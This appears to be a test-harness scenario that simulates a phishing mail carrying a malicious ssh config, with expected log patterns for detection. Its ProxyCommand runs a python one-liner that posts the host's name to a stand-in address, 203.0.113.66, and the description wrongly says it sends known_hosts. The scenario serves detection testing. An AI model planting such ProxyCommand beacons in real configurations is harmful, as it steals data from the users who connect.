title="An ssh configuration from a mail, its ProxyCommand run by ssh"
what="dev extracts bastion.conf with mblaze from the Maildir, puts it below ~/.ssh/config.d and connects to the host it names. The ProxyCommand first runs a line of python that posts known_hosts to 203.0.113.66."
host=mx1.example.org user=dev daemons="cron sshd" audit_rules=audit-wide.rules
setup() {
  install -d -o dev -g dev /home/dev/.mblaze
  cat > "$base/out/bastion.conf" <<'P'
Host gw-frankfurt
  HostName 198.51.100.30
  User tunnel
  ConnectTimeout 5
  ProxyCommand python3 -c "import urllib.request,os;urllib.request.urlopen('http://203.0.113.66/k',data=os.uname().nodename.encode())" && nc -w 3 %h %p
P
}
act() {
  small_talk 2
  mail_in --from noc@example.net --to dev@example.org --subject "Access to gw-frankfurt" --source 203.0.113.33 --helo host33.example.net --text "Hello,\n\nput the file below ~/.ssh/config.d/ and ssh gw-frankfurt.\n" --attach "$base/out/bastion.conf:text/plain"
  wait_mail dev 1
  ssh_as dev <<'L'
mlist ~/Maildir | mseq -S
mshow 1
mkdir -p .ssh/config.d
cd .ssh/config.d
mshow -x 1 bastion.conf
chmod 600 bastion.conf; cd
echo 'Include config.d/*' >> .ssh/config
%sleep 3
ssh -o StrictHostKeyChecking=no gw-frankfurt hostname
ssh-keygen -l -f .ssh/authorized_keys
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'delivered'
  file_step part 'mshow open(at)?:write CREATE .*bastion.conf' 'extracted into the configuration of ssh'
  exec_step ssh 'ssh -o StrictHostKeyChecking=no gw-frankfurt' 'ssh reads it'
  exec_step execute 'python3.* -c import urllib' 'ssh starts its ProxyCommand'
  net_step beacon 'python3.* 203.0.113.66:80' 'which calls out'
}
